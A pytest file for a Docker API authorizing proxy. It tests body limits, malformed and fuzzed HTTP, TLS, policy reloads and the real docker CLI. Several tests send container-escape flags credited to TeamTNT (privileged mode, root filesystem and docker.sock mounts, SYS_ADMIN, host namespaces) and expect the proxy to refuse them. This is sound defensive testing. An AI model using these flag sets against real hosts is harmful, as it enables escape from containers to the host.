def test_close_delimited_answer_passes_unchanged(started: Callable[..., ProxyThread]) -> None:
    listener = socket.create_server(("127.0.0.1", 0))  # a stand-in engine answering HTTP/1.0-style

    def serve() -> None:
        conn, _ = listener.accept()
        with conn:
            conn.recv(65536)
            conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nline one\nline two\n")

    server = threading.Thread(target=serve, daemon=True)
    server.start()
    relay = started(Address("tcp", host="127.0.0.1", port=listener.getsockname()[1]), lambda: policy())
    answer = raw_exchange(relay.port, b"GET /containers/x/logs?follow=1 HTTP/1.1\r\nHost: d\r\nAuthorization: "
                          b"Bearer " + TOKEN.encode() + b"\r\n\r\n")
    server.join(10)
    listener.close()
    assert answer.startswith(b"HTTP/1.1 200 OK\r\n") and b"Connection: close" in answer
    assert answer.endswith(b"\r\n\r\nline one\nline two\n")


def test_endless_body_is_cut_at_the_bound(proxy: ProxyThread) -> None:
    """A chunked create body that would go on for 512 MiB: the proxy answers 413 after its 1 MiB bound
    and stops reading, so the sender cannot push more than the bound, the linger window and the
    kernel's socket buffers."""
    sent = 0
    with socket.create_connection(("127.0.0.1", proxy.port), timeout=20) as sock:
        sock.sendall(b"POST /containers/create HTTP/1.1\r\nHost: docker\r\nAuthorization: Bearer " + TOKEN.encode() +
                     b"\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n")
        chunk = b"10000\r\n" + b"[" * 0x10000 + b"\r\n"
        answer_box: list[bytes] = []
        reader = threading.Thread(target=lambda: answer_box.append(_read_all(sock)), daemon=True)
        reader.start()
        try:
            while sent < 512 * 1024 * 1024:
                sock.sendall(chunk)
                sent += len(chunk)
        except OSError:
            pass
        reader.join(20)
        answer = answer_box[0] if answer_box else b""
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert b"over the 1048576-byte limit" in answer
    assert sent < 64 * 1024 * 1024
    with proxy.client(headers=AUTH) as client:
        assert client.get("/_ping").text == "OK"
    assert any(f.rule_id == NS + "body_limit" for f in proxy.findings())


def _read_all(sock: socket.socket) -> bytes:
    data = b""
    try:
        while chunk := sock.recv(65536):
            data += chunk
    except OSError:
        pass
    return data


def test_declared_oversize_and_slow_bodies(started: Callable[..., ProxyThread], engine: Engine) -> None:
    quick = started(engine.unix, lambda: policy(request_timeout=0.5))
    big = raw_exchange(quick.port, b"POST /containers/create HTTP/1.1\r\nHost: d\r\nAuthorization: Bearer " +
                       TOKEN.encode() + b"\r\nContent-Length: 999999999\r\n\r\n{")
    assert big.startswith(b"HTTP/1.1 413") and b"999999999 bytes" in big
    slow = raw_exchange(quick.port, b"POST /containers/create HTTP/1.1\r\nHost: d\r\nAuthorization: Bearer " +
                        TOKEN.encode() + b"\r\nContent-Length: 100\r\n\r\n{\"Image\"")
    assert slow.startswith(b"HTTP/1.1 408") and b"not received within 0.5s" in slow


def test_pass_through_body_streams(proxy: ProxyThread, engine: Engine, tmp_path: Path) -> None:
    """An image import's body is not a judged one: it goes to the engine as it comes (chunked)."""
    rootfs = build_cw_image(tmp_path)

    def pieces() -> Iterator[bytes]:
        data = rootfs.read_bytes()
        for start in range(0, len(data), 100_000):
            yield data[start:start + 100_000]

    with proxy.client(headers=AUTH) as client:
        answer = client.post("/images/create", params={"fromSrc": "-", "repo": "cwtest/streamed"}, content=pieces())
        assert answer.status_code == 200, answer.text
        assert '"id"' in answer.text


def test_garbage_http_gets_400_and_other_clients_carry_on(proxy: ProxyThread) -> None:
    with proxy.client(headers=AUTH) as steady:
        assert steady.get("/_ping").text == "OK"
        for garbage, status in [
            (b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03garbage\r\n\r\n", b"400"),
            (b"GET /_ping HTTP/1.1\r\nHost: d\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello", b"400"),
            (b"GET /_ping HTTP/1.1\r\nHost: d\r\nX-Big: " + b"a" * 300_000 + b"\r\n\r\n", b"431"),
            (b"POST /containers/create HTTP/1.1\r\nHost: d\r\nAuthorization: Bearer " + TOKEN.encode() +
             b"\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", b"400"),
            (b"GET /_ping HTTP/9.9\r\nHost: d\r\n\r\n", b"505"),
        ]:
            answer = raw_exchange(proxy.port, garbage)
            assert answer.startswith(b"HTTP/1.1 " + status), (garbage[:40], answer[:200])
            assert steady.get("/_ping").text == "OK"
    assert any(f.rule_id == NS + "malformed_request" for f in proxy.findings())


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(min_size=1, max_size=400))
def test_fuzz_raw_bytes_never_hurt_the_proxy(proxy: ProxyThread, data: bytes) -> None:
    answer = raw_exchange(proxy.port, data + b"\r\n\r\n", read_timeout=5)
    assert answer == b"" or re.match(rb"HTTP/1\.1 (4\d\d|505) ", answer), answer[:100]
    assert raw_exchange(proxy.port, b"GET /_ping HTTP/1.1\r\nHost: d\r\nAuthorization: Bearer " + TOKEN.encode() +
                        b"\r\nConnection: close\r\n\r\n").endswith(b"OK")


def test_event_stream_passes_through(proxy: ProxyThread, engine: Engine) -> None:
    """An endless answer (the events stream) reaches the client as it comes, chunk by chunk."""
    since = str(int(time.time()) - 1)
    made = engine.client.post("/containers/create", params={"name": "cwt-evented"},
                              json={"Image": engine.image, "Cmd": ["/cw"]})
    assert made.status_code == 201, made.text
    try:
        with proxy.client(headers=AUTH) as client, client.stream("GET", "/events", params={
                "since": since, "filters": json.dumps({"type": ["container"]})}) as events:
            assert events.status_code == 200
            seen = False
            for line in events.iter_lines():
                event = json.loads(line) if line.strip() else {}
                if event.get("Actor", {}).get("Attributes", {}).get("name") == "cwt-evented":
                    seen = True
                    break
            assert seen
    finally:
        engine.remove(made.json()["Id"])


def test_unix_listener_and_tls(started: Callable[..., ProxyThread], engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "proxy.sock"
    on_unix = started(engine.unix, lambda: policy(), listen=Address("unix", path=str(path)))
    assert oct(path.stat().st_mode & 0o777) == "0o660"
    with httpx.Client(transport=httpx.HTTPTransport(uds=str(path)), base_url="http://docker", headers=AUTH,
                      trust_env=False) as client:
        assert client.get("/_ping").text == "OK"
        mounted = client.post("/containers/create", json={"Image": engine.image, "HostConfig": {
            "Binds": [f"{path}:/proxy.sock"]}})
        assert mounted.status_code == 403 and "engine's socket" in mounted.json()["message"]
    assert on_unix.bound == [f"unix://{path}"]

    import ssl
    from datetime import UTC, datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import NameOID

    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "127.0.0.1")])
    now = datetime.now(UTC)
    import ipaddress
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(key.public_key())
            .serial_number(1).not_valid_before(now - timedelta(minutes=1)).not_valid_after(now + timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), False)
            .sign(key, hashes.SHA256()))
    (tmp_path / "cert.pem").write_bytes(cert.public_bytes(serialization.Encoding.PEM))
    (tmp_path / "key.pem").write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                                         serialization.PrivateFormat.PKCS8,
                                                         serialization.NoEncryption()))
    with pytest.raises(ValueError):
        server_tls(tmp_path / "key.pem", tmp_path / "key.pem")
    secure = started(engine.unix, lambda: policy(), tls=server_tls(tmp_path / "cert.pem", tmp_path / "key.pem"))
    verify = ssl.create_default_context(cafile=str(tmp_path / "cert.pem"))
    with httpx.Client(base_url=secure.url.replace("http://", "https://"), verify=verify, headers=AUTH,
                      trust_env=False) as client:
        assert client.get("/_ping").text == "OK"


def test_engine_down_or_broken_is_502(started: Callable[..., ProxyThread], tmp_path: Path) -> None:
    nowhere = started(Address("tcp", host="127.0.0.1", port=free_port()), lambda: policy())
    missing = started(Address("unix", path=str(tmp_path / "absent.sock")), lambda: policy())
    for down in (nowhere, missing):
        with down.client(headers=AUTH) as client:
            answer = client.get("/version")
            assert answer.status_code == 502 and "unreachable" in answer.json()["message"]
            assert client.post("/containers/create", json={"Image": "x"}).status_code == 502

    # an engine that answers garbage, or hangs up: a stand-in server, since podman never does this
    replies = iter([b"garbage\r\n\r\n", b"", b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nshort"])
    listener = socket.create_server(("127.0.0.1", 0))

    def serve() -> None:
        for reply in replies:
            conn, _ = listener.accept()
            with conn:
                conn.recv(65536)
                conn.sendall(reply)

    server = threading.Thread(target=serve, daemon=True)
    server.start()
    broken = started(Address("tcp", host="127.0.0.1", port=listener.getsockname()[1]), lambda: policy())
    with broken.client(headers=AUTH) as client:
        first = client.get("/version")
        assert first.status_code == 502 and "malformed response" in first.json()["message"]
        second = client.get("/version")
        assert second.status_code == 502 and "without answering" in second.json()["message"]
        with pytest.raises(httpx.RemoteProtocolError):  # the head had gone out: the client's connection ends
            client.get("/version")
        server.join(10)
        listener.close()
        assert client.get("/_ping").status_code == 502  # and the proxy is still there


def test_findings_never_wait_for_the_sink(started: Callable[..., ProxyThread], engine: Engine) -> None:
    release = threading.Event()
    written: list[Finding] = []

    def stuck(findings: Any) -> None:
        release.wait(60)
        written.extend(findings)

    blocked = started(engine.unix, lambda: policy(), sink=stuck)
    with blocked.client(headers=AUTH) as client:
        for _ in range(5):
            assert client.post("/containers/create", json={"Image": "x", "HostConfig": {
                "Privileged": True}}).status_code == 403
    release.set()
    assert blocked.queue.flush(10) and len(written) == 5


def test_connection_limit(started: Callable[..., ProxyThread], engine: Engine) -> None:
    small = started(engine.unix, lambda: policy(), max_connections=2)
    holders = [socket.create_connection(("127.0.0.1", small.port)) for _ in range(2)]
    try:
        for holder in holders:  # make sure both are being served before the third arrives
            holder.sendall(b"GET /_ping HTTP/1.1\r\nHost: d\r\nAuthorization: Bearer " + TOKEN.encode() + b"\r\n\r\n")
            assert read_response(holder) == (200, b"OK")
        assert raw_exchange(small.port, b"GET /_ping HTTP/1.1\r\nHost: d\r\n\r\n").startswith(b"HTTP/1.1 503")
    finally:
        for holder in holders:
            holder.close()


def test_bad_reload_keeps_the_policy(started: Callable[..., ProxyThread], engine: Engine, tmp_path: Path) -> None:
    file = tmp_path / "policy.yaml"
    file.write_text(f"tokens: [{{name: a, sha256: {hash_token(TOKEN)}}}]\n")
    running = started(engine.unix, lambda: load_policy(file))
    file.write_text("tokens: [broken\n")
    assert running.proxy.reload() is False
    with running.client(headers=AUTH) as client:
        assert client.get("/_ping").text == "OK"


# =========================================================================== the CLI and the docker CLI


def _docker(env: dict[str, str], *args: str, stdin: str | None = None) -> subprocess.CompletedProcess[str]:
    docker = shutil.which("docker")
    assert docker, "the docker CLI is part of this machine kind (/usr/local/bin/docker)"
    return subprocess.run([docker, *args], env=env, input=stdin, capture_output=True, text=True, timeout=120,
                          check=False)


def test_cli_docker_client_and_sighup_reload(engine: Engine, tmp_path: Path) -> None:
    """`cloudward network protect docker` as a user runs it, with the real docker CLI as the client:
    a normal `docker run` works, TeamTNT's flags are refused with the reason, exec is refused until a
    SIGHUP reload allows it on a connection that stays open, then `docker exec -i` splices both ways."""
    policy_file = tmp_path / "policy.yaml"
    entry = f"tokens:\n  - name: ops\n    sha256: {hash_token(TOKEN)}\n"
    policy_file.write_text(entry)
    findings = tmp_path / "findings.jsonl"
    port = free_port()
    log = tmp_path / "proxy.log"
    with open(log, "wb") as log_handle:
        process = subprocess.Popen([CLOUDWARD, "network", "protect", "docker", "--listen",
                                    f"127.0.0.1:{port}", "--upstream", f"unix://{engine.sock}", "--policy",
                                    str(policy_file), "--findings", str(findings)],
                                   stdout=subprocess.DEVNULL, stderr=log_handle, cwd=ROOT)
    try:
        _wait_for(lambda: "listening on" in log.read_text(), process, log)
        config = tmp_path / "docker-config"
        config.mkdir()
        (config / "config.json").write_text(json.dumps({"HttpHeaders": {"Authorization": f"Bearer {TOKEN}"}}))
        env = {**_env_without("DOCKER_"), "DOCKER_HOST": f"tcp://127.0.0.1:{port}", "DOCKER_CONFIG": str(config)}
        nameless = tmp_path / "no-token"
        nameless.mkdir()
        refused = _docker({**env, "DOCKER_CONFIG": str(nameless)}, "ps")
        assert refused.returncode != 0 and "bearer token is required" in refused.stderr

        assert _docker(env, "version", "--format", "{{.Server.APIVersion}}").stdout.strip()
        ran = _docker(env, "run", "--rm", engine.image, "/cw")
        assert ran.returncode == 0 and ran.stdout == "hello from cw\n", ran.stderr

        before = engine.containers()
        attack = _docker(env, "run", "--privileged", "-v", "/:/host", "--pid", "host", engine.image, "/cw")
        assert attack.returncode == 125 and "cloudward: refused" in attack.stderr
        assert NS + "privileged_container" in attack.stderr
        for flags, reason in [(["--security-opt", "systempaths=unconfined"], "unmasks"),
                              (["--mount", "type=bind,src=/,dst=/host"], "root filesystem"),
                              (["-v", "/var/run/docker.sock:/var/run/docker.sock"], "engine's socket"),
                              (["--cap-add", "SYS_ADMIN"], "SYS_ADMIN"), (["--userns", "host"], "userns"),
                              (["--device-cgroup-rule", "b *:* rwm"], "cgroup rule")]:
            refused = _docker(env, "run", "--rm", *flags, engine.image, "/cw")
            assert refused.returncode == 125 and reason in refused.stderr, (flags, refused.stderr)
        assert engine.containers() == before

        assert _docker(env, "run", "-d", "--name", "cwt-sleeper", engine.image, "/cw", "sleep").returncode == 0
        denied = _docker(env, "exec", "-i", "cwt-sleeper", "/cw", "cat", stdin="x\n")
        assert denied.returncode != 0 and "exec into a container is not allowed" in denied.stderr

        with socket.create_connection(("127.0.0.1", port), timeout=30) as kept:
            exec_body = {"Cmd": ["/cw"], "AttachStdout": True}
            assert post_json(kept, "/containers/cwt-sleeper/exec", exec_body)[0] == 403
            policy_file.write_text(entry + "allow_exec: true\n")
            process.send_signal(signal.SIGHUP)
            _wait_for(lambda: "policy reloaded" in log.read_text(), process, log)
            status, answer = post_json(kept, "/containers/cwt-sleeper/exec", exec_body)  # same connection
            assert status == 201 and json.loads(answer)["Id"]

        echoed = _docker(env, "exec", "-i", "cwt-sleeper", "/cw", "cat", stdin="through the proxy\n" * 1000)
        assert echoed.returncode == 0 and echoed.stdout == "through the proxy\n" * 1000, echoed.stderr
        assert _docker(env, "rm", "-f", "cwt-sleeper").returncode == 0
    finally:
        process.send_signal(signal.SIGTERM)
        code = process.wait(30)
    assert code == 0, log.read_text()[-2000:]
    text = log.read_text()
    assert "refuse POST /v1.41/containers/create" in text and "allow POST" in text and "status=101" in text
    assert TOKEN not in text
    recorded = [json.loads(line) for line in findings.read_text().splitlines()]
    assert {NS + "privileged_container", NS + "host_path_mount", NS + "host_namespace",
            NS + "exec", NS + "unauthenticated"} <= {f["rule_id"] for f in recorded}


def test_cli_refuses_to_start_on_a_bad_policy(tmp_path: Path) -> None:
    bad = tmp_path / "policy.yaml"
    bad.write_text("tokens: [{name: x, sha256: nothex}]\n")
    done = subprocess.run([CLOUDWARD, "network", "protect", "docker", "--policy", str(bad),
                           "--listen", f"127.0.0.1:{free_port()}"], capture_output=True, text=True, timeout=60,
                          cwd=ROOT)
    assert done.returncode == 2 and "64 hex digits" in done.stderr and str(bad) in done.stderr.replace("\n", "")
    hashed = subprocess.run([CLOUDWARD, "network", "protect", "docker", "--hash-token"],
                            input=TOKEN + "\n", capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert hashed.returncode == 0 and hash_token(TOKEN) in hashed.stdout and TOKEN not in hashed.stdout


def _wait_for(condition: Callable[[], bool], process: subprocess.Popen[bytes], log: Path) -> None:
    deadline = time.monotonic() + 60
    while not condition():
        assert process.poll() is None, log.read_text()[-3000:]
        assert time.monotonic() < deadline, log.read_text()[-3000:]
        time.sleep(0.05)


# --------------------------------------------------------------------------- an engine served over TLS


def _pki(folder: Path) -> dict[str, Path]:
    """A CA, the engine's certificate for 127.0.0.1 and a client certificate, as dockerd --tlsverify
    deployments have them (ca.pem, server and client cert.pem/key.pem); plus an unrelated CA."""
    import ipaddress
    import ssl  # noqa: F401  (the contexts below are built by the code under test)
    from datetime import UTC, datetime, timedelta

    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec
    from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

    now = datetime.now(UTC)

    def name(text: str) -> x509.Name:
        return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, text)])

    def issue(subject: str, issuer: tuple[x509.Name, Any] | None, *, ca: bool = False,
              usage: Any = None) -> tuple[x509.Certificate, Any]:
        key = ec.generate_private_key(ec.SECP256R1())
        issuer_name, issuer_key = issuer if issuer is not None else (name(subject), key)
        builder = (x509.CertificateBuilder().subject_name(name(subject)).issuer_name(issuer_name)
                   .public_key(key.public_key()).serial_number(x509.random_serial_number())
                   .not_valid_before(now - timedelta(minutes=5)).not_valid_after(now + timedelta(days=1))
                   .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True))
        if ca:
            builder = builder.add_extension(x509.KeyUsage(
                digital_signature=True, key_cert_sign=True, crl_sign=True, content_commitment=False,
                key_encipherment=False, data_encipherment=False, key_agreement=False, encipher_only=False,
                decipher_only=False), critical=True)
        else:
            builder = builder.add_extension(x509.ExtendedKeyUsage([usage]), critical=False)
        if usage == ExtendedKeyUsageOID.SERVER_AUTH:
            builder = builder.add_extension(
                x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), critical=False)
        return builder.sign(issuer_key, hashes.SHA256()), key

    out: dict[str, Path] = {}

    def save(label: str, cert: x509.Certificate, key: Any) -> None:
        out[f"{label}.pem"] = folder / f"{label}.pem"
        out[f"{label}-key.pem"] = folder / f"{label}-key.pem"
        out[f"{label}.pem"].write_bytes(cert.public_bytes(serialization.Encoding.PEM))
        out[f"{label}-key.pem"].write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                                              serialization.PrivateFormat.PKCS8,
                                                              serialization.NoEncryption()))

    ca_cert, ca_key = issue("cloudward test CA", None, ca=True)
    save("ca", ca_cert, ca_key)
    save("server", *issue("engine", (ca_cert.subject, ca_key), usage=ExtendedKeyUsageOID.SERVER_AUTH))
    save("client", *issue("proxy", (ca_cert.subject, ca_key), usage=ExtendedKeyUsageOID.CLIENT_AUTH))
    save("other-ca", *issue("someone else's CA", None, ca=True))
    return out


class TlsEngine:
    """The engine behind TLS that demands a client certificate (like dockerd --tlsverify): a TLS
    listener relaying each connection to podman's unix socket. Podman serves no TLS itself; the TLS
    end here is Python's ssl module, the engine is the real podman."""

    def __init__(self, socket_path: str, pki: dict[str, Path]) -> None:
        import ssl

        context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH, cafile=str(pki["ca.pem"]))
        context.load_cert_chain(pki["server.pem"], pki["server-key.pem"])
        context.verify_mode = ssl.CERT_REQUIRED
        self.socket_path = socket_path
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()
        self.server = asyncio.run_coroutine_threadsafe(
            asyncio.start_server(self._relay, "127.0.0.1", 0, ssl=context), self.loop).result(10)
        self.port = self.server.sockets[0].getsockname()[1]

    async def _relay(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        up_reader, up_writer = await asyncio.open_unix_connection(self.socket_path)

        async def pipe(src: asyncio.StreamReader, dst: asyncio.StreamWriter) -> None:
            with contextlib.suppress(ConnectionError, OSError):
                while data := await src.read(65536):
                    dst.write(data)
                    await dst.drain()
            with contextlib.suppress(ConnectionError, OSError, RuntimeError):
                dst.close()

        await asyncio.gather(pipe(reader, up_writer), pipe(up_reader, writer))

    def close(self) -> None:
        self.loop.call_soon_threadsafe(self.server.close)
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(10)


def test_an_engine_over_tls_with_client_certificates(started: Callable[..., ProxyThread], engine: Engine,
                                                     tmp_path: Path) -> None:
    from cloudward.network.docker_proxy import client_tls

    pki = _pki(tmp_path)
    tls_engine = TlsEngine(engine.unix.path, pki)
    try:
        target = Address("tcp", host="127.0.0.1", port=tls_engine.port)
        good = started(target, lambda: policy(), upstream_tls=client_tls(pki["ca.pem"], pki["client.pem"],
                                                                          pki["client-key.pem"]))
        with good.client(headers=AUTH) as client:
            assert client.get("/_ping").text == "OK"
            assert client.get("/version").json()["Components"]
            refused = client.post("/containers/create", json={"Image": engine.image, "HostConfig": {
                "Privileged": True}})
            assert refused.status_code == 403  # judged as before, then never sent
        no_cert = started(target, lambda: policy(), upstream_tls=client_tls(pki["ca.pem"]))
        wrong_ca = started(target, lambda: policy(), upstream_tls=client_tls(pki["other-ca.pem"], pki["client.pem"],
                                                                              pki["client-key.pem"]))
        plain = started(target, lambda: policy())
        for proxy_, words in ((no_cert, "TLS with the engine"), (wrong_ca, "CERTIFICATE_VERIFY_FAILED"),
                              (plain, "")):
            with proxy_.client(headers=AUTH) as client:
                answer = client.get("/_ping")
                assert answer.status_code == 502 and words in answer.json()["message"], answer.text
    finally:
        tls_engine.close()
    with pytest.raises(ValueError):
        client_tls(pki["ca-key.pem"])  # a key is not a CA certificate


def test_cli_checks_the_upstream_tls_options(tmp_path: Path) -> None:
    cli = [str(Path(sys.executable).parent / "cloudward"), "network", "protect", "docker"]
    (tmp_path / "t").write_text("tokens:\n  - name: ci\n    sha256: " + hash_token("x" * 32) + "\n")
    base = [*cli, "--upstream", "tcp://127.0.0.1:2376", "--token-file", str(tmp_path / "t")]
    for argv, words in (([*base, "--upstream-tls-cert", str(tmp_path / "t")], "go together"),
                        ([*cli, "--upstream", "unix:///run/x.sock", "--upstream-tls-ca", str(tmp_path / "t"),
                          "--token-file", str(tmp_path / "t")], "engine on TCP"),
                        ([*base, "--upstream-tls-ca", str(tmp_path / "missing.pem")], "--upstream-tls-*")):
        done = subprocess.run(argv, capture_output=True, text=True, timeout=60)
        assert done.returncode == 2 and words in done.stderr, done.stderr
